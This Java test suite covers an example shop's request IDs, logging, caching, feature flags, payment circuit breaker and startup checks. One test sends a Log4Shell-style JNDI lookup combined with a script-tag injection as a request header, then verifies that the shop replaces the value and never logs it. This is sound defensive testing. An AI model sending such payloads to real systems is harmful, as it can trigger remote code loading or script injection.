package dev.underpin.examples.shop;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.awaitility.Awaitility.await;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/** What the modules add, seen by customers and in the log. */
class UnderpinnedShopTest {
  private static final Duration LIMIT = Duration.ofSeconds(20);

  @TempDir private Path folder;
  private final ListAppender<ILoggingEvent> log = new ListAppender<>();
  private final Logger root = (Logger) LoggerFactory.getLogger(Logger.ROOT_LOGGER_NAME);

  @BeforeEach
  void listens() {
    log.start();
    root.addAppender(log);
  }

  @AfterEach
  void stopsListening() {
    root.detachAppender(log);
  }

  private TestShop shop(String... options) throws StartFailure {
    return TestShop.start(folder, TestShop.prompt(0), options);
  }

  private List<ILoggingEvent> linesOf(String requestId) {
    return new ArrayList<>(log.list)
        .stream().filter(e -> requestId.equals(e.getMDCPropertyMap().get("request_id"))).toList();
  }

  @Test
  void request_id_is_in_the_response_in_the_requests_line_and_in_the_jobs_lines() throws Exception {
    try (TestShop shop = shop()) {
      Browser browser = shop.browser();
      browser.post("/cart", "product=7");
      HttpResponse<String> bought =
          browser.send(
              browser
                  .request("/checkout")
                  .header("X-Request-ID", "order-of-ana-1")
                  .header("Content-Type", "application/x-www-form-urlencoded")
                  .POST(BodyPublishers.ofString("email=ana@example.org")));

      assertThat(bought.statusCode()).isEqualTo(200);
      assertThat(bought.headers().firstValue("X-Request-ID")).hasValue("order-of-ana-1");
      await().atMost(LIMIT).until(() -> shop.mails().size() == 1);
      assertThat(shop.mails().get(0)).contains("ana@example.org", "order-of-ana-1");
      await()
          .atMost(LIMIT)
          .untilAsserted(
              () ->
                  assertThat(linesOf("order-of-ana-1"))
                      .anyMatch(e -> e.getLoggerName().equals("underpin.request.shop"))
                      .anyMatch(e -> e.getFormattedMessage().contains("receipt mailed")));
    }
  }

  @Test
  void hostile_request_id_is_replaced_and_neither_echoed_nor_logged() throws Exception {
    String hostile = "${jndi:ldap://evil}<script>";
    try (TestShop shop = shop()) {
      Browser browser = shop.browser();
      HttpResponse<String> page =
          browser.send(browser.request("/").header("X-Request-ID", hostile).GET());

      String id = page.headers().firstValue("X-Request-ID").orElseThrow();
      assertThat(id).isNotEqualTo(hostile).matches("[0-9a-f-]{36}");
      assertThat(page.body()).doesNotContain("evil");
      await().atMost(LIMIT).until(() -> !linesOf(id).isEmpty());
      assertThat(new ArrayList<>(log.list))
          .noneMatch(
              e ->
                  (e.getFormattedMessage() + e.getMDCPropertyMap() + e.getKeyValuePairs())
                      .contains("evil"));
    }
  }

  @Test
  void customer_does_not_wait_for_the_mail() throws Exception {
    try (TestShop shop = shop()) {
      Browser browser = shop.browser();
      browser.post("/cart", "product=7");

      HttpResponse<String> bought = browser.post("/checkout", "email=ana@example.org");

      assertThat(bought.statusCode()).isEqualTo(200);
      await().atMost(LIMIT).until(() -> shop.mails().size() == 1);
    }
    try (TestShop mvp = TestShop.mvp(folder, TestShop.prompt(0))) {
      Browser browser = mvp.browser();
      browser.post("/cart", "product=7");
      browser.post("/checkout", "email=ben@example.org");

      assertThat(mvp.mails()).anyMatch(mail -> mail.contains("ben@example.org"));
    }
  }

  @Test
  void product_page_comes_from_memory_and_a_review_is_seen_at_once() throws Exception {
    try (TestShop shop = shop()) {
      Browser browser = shop.browser();
      browser.get("/product/7");
      try (Connection connection = DriverManager.getConnection(shop.database(), "sa", "");
          Statement statement = connection.createStatement()) {
        statement.execute("UPDATE products SET name = 'Renamed behind the back' WHERE id = 7");
      }

      assertThat(browser.get("/product/7").body()).doesNotContain("Renamed behind the back");
      browser.post("/product/7/review", "author=Ana&stars=5&body=Splendid+thing");
      assertThat(browser.get("/product/7").body())
          .contains("Renamed behind the back", "Splendid thing");
    }
  }

  @Test
  void line_of_a_product_page_tells_route_cache_misses_and_queries() throws Exception {
    try (TestShop shop = shop()) {
      Browser browser = shop.browser();
      browser.send(browser.request("/product/7").header("X-Request-ID", "page-1").GET());

      await().atMost(LIMIT).until(() -> !linesOf("page-1").isEmpty());
      ILoggingEvent line =
          linesOf("page-1").stream()
              .filter(e -> e.getLoggerName().equals("underpin.request.shop"))
              .findFirst()
              .orElseThrow();
      assertThat(line.getKeyValuePairs().toString())
          .contains("route=\"/product/{id}\"", "status=\"200\"", "cache_misses=\"1\"")
          .containsPattern("queries=\"[1-9]")
          .containsPattern("query_ms=\"[0-9]");
    }
  }

  @Test
  void flag_decides_who_gets_the_patient_checkout_and_is_followed() throws Exception {
    Path file = Files.writeString(folder.resolve("flags.json"), flags("off"));
    // so many charges fail that three tries help: 60 % of single tries, 22 % of three in a row; a
    // guard would stop asking such a provider
    String[] options = {"--without", "guard", "--flags", file.toString()};
    try (TestShop shop = TestShop.start(folder, TestShop.prompt(60), options)) {
      int impatient = bought(shop);

      Files.writeString(file, flags("on"));
      await()
          .atMost(LIMIT)
          .until(
              () ->
                  new ArrayList<>(log.list)
                      .stream().anyMatch(e -> e.getFormattedMessage().contains("flags.json")));
      await().atMost(LIMIT).until(() -> bought(shop) > impatient + 5);
    }
  }

  private static String flags(String state) {
    return "{\"flags\": {\"patient-checkout\": {\"type\": \"boolean\", \"state\": \"%s\"}}}"
        .formatted(state);
  }

  /** How many of 40 customers could buy. */
  private static int bought(TestShop shop) throws Exception {
    int bought = 0;
    for (int i = 0; i < 40; i++) {
      Browser browser = shop.browser();
      browser.post("/cart", "product=7");
      if (browser.post("/checkout", "email=ana@example.org").statusCode() == 200) {
        bought++;
      }
    }
    return bought;
  }

  @Test
  void provider_that_fails_is_asked_no_more_and_the_customer_is_told_at_once() throws Exception {
    try (TestShop shop = TestShop.start(folder, TestShop.prompt(100), "--without", "flags")) {
      await().atMost(LIMIT).until(() -> buy(shop) == 502 && logged("guard \"payments\" OPEN"));

      assertThat(buy(shop)).isEqualTo(502);
      assertThat(shop.browser().get("/product/7").statusCode()).isEqualTo(200);
    }
  }

  private boolean logged(String text) {
    return new ArrayList<>(log.list).stream().anyMatch(e -> e.getFormattedMessage().contains(text));
  }

  private static int buy(TestShop shop) throws Exception {
    Browser browser = shop.browser();
    browser.post("/cart", "product=7");
    return browser.post("/checkout", "email=ana@example.org").statusCode();
  }

  @Test
  void readiness_and_liveness_are_told() throws Exception {
    try (TestShop shop = shop()) {
      await().atMost(LIMIT).until(() -> shop.browser().get("/readyz").statusCode() == 200);

      assertThat(shop.browser().get("/readyz").body()).contains("database");
      assertThat(shop.browser().get("/livez").statusCode()).isEqualTo(200);
    }
  }

  @Test
  void h2_file_that_would_lose_jobs_is_refused_with_the_remedy() {
    String url = "jdbc:h2:file:" + folder.resolve("lossy");

    StartFailure failure =
        catchThrowableOfType(
            StartFailure.class,
            () ->
                Shop.start(
                    ShopOptions.parse(
                        "--port", "0", "--db", url, "--mail", folder.resolve("m.txt").toString()),
                    PaymentProvider.Quirks.USUAL));

    assertThat(failure.exitCode()).isEqualTo(1);
    assertThat(failure.getMessage()).contains("WRITE_DELAY", "must be 0 but was 500");
  }

  @Test
  void flag_file_that_is_missing_or_malformed_is_refused_at_the_start() throws Exception {
    Path half = Files.writeString(folder.resolve("half.json"), "{\"flags\": {");

    assertThat(refused(folder.resolve("none.json")))
        .contains("none.json must exist but is missing");
    assertThat(refused(half)).contains("half.json line 1", "ends too early");
  }

  private String refused(Path flags) {
    StartFailure failure =
        catchThrowableOfType(StartFailure.class, () -> shop("--flags", flags.toString()).close());
    return String.valueOf(failure.getMessage());
  }
}
